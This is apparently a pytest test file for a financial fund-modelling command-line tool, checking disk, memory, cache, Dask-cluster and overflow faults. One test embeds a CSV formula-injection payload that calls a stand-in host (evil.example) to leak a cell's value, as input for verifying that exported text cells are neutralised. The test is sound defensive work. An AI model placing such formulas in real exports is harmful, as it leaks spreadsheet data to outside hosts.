"""Trustworthy outputs under faults (issue 12), continued: disk and memory, spreadsheet formulas,
broken caches, hung clusters, overflowing figures (split from ``test_robustness_faults.py`` so
that the two files run on different test workers).
"""

from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import numpy as np
import pytest

from fundmodel.cli import main
from fundmodel.outdir import MARKER, output_folder

from conftest import REPO_ROOT, copy_assumptions

from test_robustness_faults import PROJECTS, cli, previous, work  # noqa: F401 - shared fixtures


# ----------------------------------------------------------------------------- 5. disk and memory
def test_a_run_that_does_not_fit_on_the_disk_is_refused_before_writing(tmp_path, monkeypatch):
    import collections

    usage = collections.namedtuple("usage", "total used free")
    free = 100 * 2**20
    monkeypatch.setattr("fundmodel.resources.shutil.disk_usage", lambda path: usage(10**9, 10**9 - free, free))
    out = tmp_path / "out"
    code, err = cli(["simulate", "--assumptions", str(REPO_ROOT / "assumptions"), "--scenarios", "40960",
                     "--out", str(out), "--quiet"])
    assert code == 2 and "does not fit on this machine (disk)" in err and "0.1 GB free on disk" in err, err
    # by hand: a scenario is 40 years x (8 prices + FX as float32 + a flag) = 1,480 bytes of market data
    # and, per project, 40 x (5 float32 arrays + float32 tonnes per product + a byte) + 149 bytes of
    # results (15 float64, 3 int64 years, 5 flags: 12 + 2 of the credit model, 3 + 3 of the options):
    # 1,149 for one product (10 projects), 1,309 for two (2): 15,588 bytes; the 100 MiB free less
    # 16 MiB for the other results hold (100 - 16) * 2**20 / 15,588 = 5,650 scenarios
    assert "at most about 5,650 scenarios fit" in err, err
    assert not out.exists()
    # 10^9 scenarios: refused with the figures (13 TB of scenario files), not 13.8 TB of sparse files
    code, err = cli(["simulate", "--assumptions", str(REPO_ROOT / "assumptions"), "--scenarios", "1000000000",
                     "--out", str(out), "--quiet"])
    assert code == 2 and " TB of disk" in err, err
    assert not out.exists()


def test_workers_that_do_not_fit_in_memory_are_refused(tmp_path, monkeypatch):
    monkeypatch.setattr("fundmodel.resources.memory_available_bytes", lambda: 3 * 2**30)
    code, err = cli(["simulate", "--assumptions", str(REPO_ROOT / "assumptions"), "--scenarios", "4096",
                     "--workers", "8", "--out", str(tmp_path / "out"), "--quiet"])
    assert code == 2 and "does not fit on this machine (memory)" in err, err
    assert "at most 2 --workers fit in memory" in err, err


@pytest.mark.slow
def test_scenario_file_estimate_is_the_size_written(tmp_path):
    """The disk estimate is the size of the scenario files (their layout, not a guess)."""
    from fundmodel.assumptions import load_assumptions
    from fundmodel.resources import scenario_file_bytes

    a = load_assumptions(REPO_ROOT / "assumptions")
    code, err = cli(["simulate", "--assumptions", str(REPO_ROOT / "assumptions"), "--scenarios", "1024",
                     "--workers", "1", "--no-attribution", "--quiet", "--out", str(tmp_path)])
    assert code == 0, err
    files = list((tmp_path / "simulation" / "scenarios").rglob("*.npy"))
    data = sum(f.stat().st_size - 128 for f in files)  # numpy's header is 128 bytes here
    assert data == scenario_file_bytes(1024, a.fund.horizon_years, len(a.markets.materials),
                                       [len(p.products) for p in a.projects.values()])


def _namespace_with_small_disk(size: str, readonly: bool = False) -> list[str] | None:
    """A command prefix running in a private mount namespace with a small tmpfs at /mnt (None if impossible)."""
    unshare = shutil.which("unshare")
    if unshare is None:
        return None
    options = f"size={size}" + (",ro" if readonly else "")
    probe = subprocess.run([unshare, "-rm", "sh", "-c", f"mount -t tmpfs -o {options} tmpfs /mnt && echo ok"],
                           capture_output=True, text=True)
    if probe.stdout.strip() != "ok":
        return None
    return [unshare, "-rm", "sh", "-c", f'mount -t tmpfs -o {options} tmpfs /mnt && exec "$@"', "sh"]


@pytest.mark.slow
def test_a_full_disk_is_an_error_not_a_signal(tmp_path):
    """Scenario files are reserved up front: a disk that is too small is ENOSPC (exit 2), never SIGBUS."""
    prefix = _namespace_with_small_disk("6m")
    if prefix is None:
        pytest.skip("no private mount namespace here (unshare -rm, tmpfs)")
    # the writer alone, below the free-space check: rows written into files that do not fit
    script = ("import errno, numpy as np\nfrom fundmodel.assumptions import load_assumptions\n"
              "from fundmodel.simulation import ScenarioWriter\n"
              f"a = load_assumptions({str(REPO_ROOT / 'assumptions')!r})\n"
              "try:\n    w = ScenarioWriter.create('/mnt/scenarios', a, 20000)\n"
              "    w.market['price_usd_per_t'][:] = 1.0\nexcept OSError as exc:\n"
              "    print('ENOSPC' if exc.errno == errno.ENOSPC else exc)\n")
    res = subprocess.run([*prefix, sys.executable, "-c", script], capture_output=True, text=True, cwd=REPO_ROOT,
                         timeout=120)
    assert res.returncode == 0 and res.stdout.strip() == "ENOSPC", (res.returncode, res.stdout, res.stderr)
    # the command: refused with the figures before anything is written, exit 2
    res = subprocess.run([*prefix, sys.executable, "-m", "fundmodel.cli", "simulate", "--assumptions",
                          str(REPO_ROOT / "assumptions"), "--scenarios", "20000", "--out", "/mnt/out", "--quiet"],
                         capture_output=True, text=True, cwd=REPO_ROOT, timeout=120)
    assert res.returncode == 2 and "does not fit on this machine (disk)" in res.stderr, (res.returncode, res.stderr)


@pytest.mark.slow
def test_a_read_only_output_folder_is_exit_2(tmp_path):
    prefix = _namespace_with_small_disk("1m", readonly=True)
    if prefix is None:
        pytest.skip("no private mount namespace here (unshare -rm, tmpfs)")
    res = subprocess.run([*prefix, sys.executable, "-m", "fundmodel.cli", "simulate", "--assumptions",
                          str(REPO_ROOT / "assumptions"), "--scenarios", "64", "--out", "/mnt/out", "--quiet"],
                         capture_output=True, text=True, cwd=REPO_ROOT, timeout=120)
    assert res.returncode == 2 and "internal error" not in res.stderr, res.stderr
    assert "read-only" in res.stderr or "not writable" in res.stderr, res.stderr


# ----------------------------------------------------------------------------- 9. smaller ones
@pytest.mark.slow
def test_text_cells_cannot_run_as_spreadsheet_formulas(tmp_path):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    work = copy_assumptions(tmp_path / "assumptions", ["mn_ree"])
    project = work / "projects" / "mn_ree.yaml"
    text = project.read_text()
    line = next(li for li in text.splitlines() if li.startswith("name:"))
    project.write_text(text.replace(line, "name: " + json.dumps(hostile), 1))
    out = tmp_path / "out"
    code, err = cli(["simulate", "--assumptions", str(work), "--scenarios", "64", "--workers", "1",
                     "--no-attribution", "--quiet", "--out", str(out)])
    assert code == 0, err
    with open(out / "simulation" / "summary.csv", newline="") as fh:
        row = next(csv.DictReader(fh))
    assert row["name"] == "'" + hostile, "a text cell starting with = is neutralised (OWASP)"
    assert float(row["npv_p5_meur"]) < 0 and row["npv_p5_meur"].startswith("-"), "negative numbers stay numbers"
    from fundmodel.memo import load_results

    assert load_results(out, require_portfolio=False).summary.loc["mn_ree", "name"] == hostile  # read back exactly


@pytest.mark.slow
def test_a_truncated_cached_array_is_recomputed(work, previous, tmp_path):
    out = tmp_path / "out"
    shutil.copytree(previous, out)
    npy = out / "simulation" / "scenarios" / "mn_ree" / "equity_cf_meur.npy"
    with open(npy, "r+b") as fh:
        fh.truncate(npy.stat().st_size // 2)
    code, err = cli(["run", "--assumptions", str(work), "--scenarios", "128", "--workers", "1", "--project",
                     "mn_ree", "--out", str(out)])
    assert code == 0, err
    assert "simulate: done" in err, "the broken cache is not reused"
    assert np.load(npy).shape == (128, 40)


@pytest.mark.slow
def test_a_large_cached_array_is_checked_by_its_header_and_reused(work, tmp_path, monkeypatch, capsys):
    """Files above the hash limit (the default run's price arrays: 25 MB) are checked by their
    .npy header and size; the check must work on the installed numpy, and reuse must follow."""
    monkeypatch.setattr("fundmodel.io.HASH_LIMIT_BYTES", 0)  # every file is "large"
    out = tmp_path / "out"
    args = ["optimize", "--assumptions", str(work), "--scenarios", "128", "--workers", "1", "--out", str(out)]
    assert main(args) == 0 and "new simulation" in capsys.readouterr().out
    assert main(args) == 0 and "reused simulation" in capsys.readouterr().out
    npy = out / "simulation" / "scenarios" / "mn_ree" / "equity_cf_meur.npy"
    with open(npy, "r+b") as fh:  # same size, broken header: not reused
        fh.seek(8)
        fh.write(b"\xff\xff")
    assert main(args) == 0 and "new simulation" in capsys.readouterr().out


@contextlib.contextmanager
def _silent_server():
    """A TCP server that accepts connections and never answers (a wrong port, a stuck scheduler)."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    held: list = []
    stop = threading.Event()

    def accept():
        server.settimeout(0.2)
        while not stop.is_set():
            with contextlib.suppress(OSError):
                held.append(server.accept()[0])

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        yield f"tcp://127.0.0.1:{server.getsockname()[1]}"
    finally:
        stop.set()
        thread.join()
        for conn in held:
            conn.close()
        server.close()


@pytest.mark.slow
def test_a_dask_scheduler_that_never_answers_is_refused(tmp_path):
    out = tmp_path / "out"
    with _silent_server() as address:
        proc = subprocess.run([sys.executable, "-m", "fundmodel.cli", "simulate", "--assumptions",
                               str(REPO_ROOT / "assumptions"), "--scenarios", "256", "--engine", "dask",
                               "--scheduler", address, "--out", str(out), "--quiet"],
                              capture_output=True, text=True, cwd=REPO_ROOT, timeout=90,
                              env={**os.environ, "FUNDMODEL_DASK_CONNECT_TIMEOUT": "3"})
    assert proc.returncode == 2 and f"cannot reach the Dask scheduler at '{address}'" in proc.stderr, proc.stderr
    assert not out.exists()


@pytest.mark.slow
def test_a_dask_cluster_without_workers_times_out(tmp_path):
    port_probe = socket.socket()
    port_probe.bind(("127.0.0.1", 0))
    port = port_probe.getsockname()[1]
    port_probe.close()
    scheduler = subprocess.Popen([sys.executable, "-m", "distributed.cli.dask_scheduler", "--host", "127.0.0.1",
                                  "--port", str(port), "--no-dashboard"], stdout=subprocess.DEVNULL,
                                 stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 60
        while True:
            with socket.socket() as s:
                if s.connect_ex(("127.0.0.1", port)) == 0:
                    break
            assert time.monotonic() < deadline, "the scheduler did not start"
            time.sleep(0.2)
        proc = subprocess.run([sys.executable, "-m", "fundmodel.cli", "simulate", "--assumptions",
                               str(REPO_ROOT / "assumptions"), "--scenarios", "256", "--engine", "dask",
                               "--scheduler", f"tcp://127.0.0.1:{port}", "--out", str(tmp_path / "out"), "--quiet",
                               "--no-attribution"],
                              capture_output=True, text=True, cwd=REPO_ROOT, timeout=120,
                              env={**os.environ, "FUNDMODEL_DASK_TASK_TIMEOUT": "3"})
    finally:
        scheduler.kill()
        scheduler.wait()
    assert proc.returncode == 2 and "returned no result for 3 s" in proc.stderr, proc.stderr
    assert not (tmp_path / "out" / "simulation").exists()


def test_an_overflowing_figure_names_its_input(tmp_path):
    """The last line of defence behind the schema's bounds: non-finite figures are never written."""
    from fundmodel.assumptions import load_assumptions
    from fundmodel.io import NonFiniteResult
    from fundmodel.sampling import ScenarioStreams
    from fundmodel.simulation import check_finite, simulate_chunk

    a = load_assumptions(copy_assumptions(tmp_path / "assumptions", ["mn_ree"]))
    chunk = simulate_chunk(a, ScenarioStreams(1, a.fund.simulation.sampling), 0, 8)
    check_finite(a, chunk)  # a normal chunk passes
    k = chunk.market.materials.index("ndpr")
    chunk.market.price_usd_per_t[k, 3, 5] = np.inf
    with pytest.raises(NonFiniteResult, match=r"markets.yaml: materials.ndpr: .* inf USD/t \(scenario 3, year 5\)"):
        check_finite(a, chunk)
    chunk.market.price_usd_per_t[k, 3, 5] = 1.0
    chunk.projects["mn_ree"].values.equity_cf_meur[2, 7] = 1e39  # beyond float32: the files would hold inf
    with pytest.raises(NonFiniteResult, match=r"projects/mn_ree.yaml: the equity cash flow .* \(scenario 2, year 7\)"):
        check_finite(a, chunk)
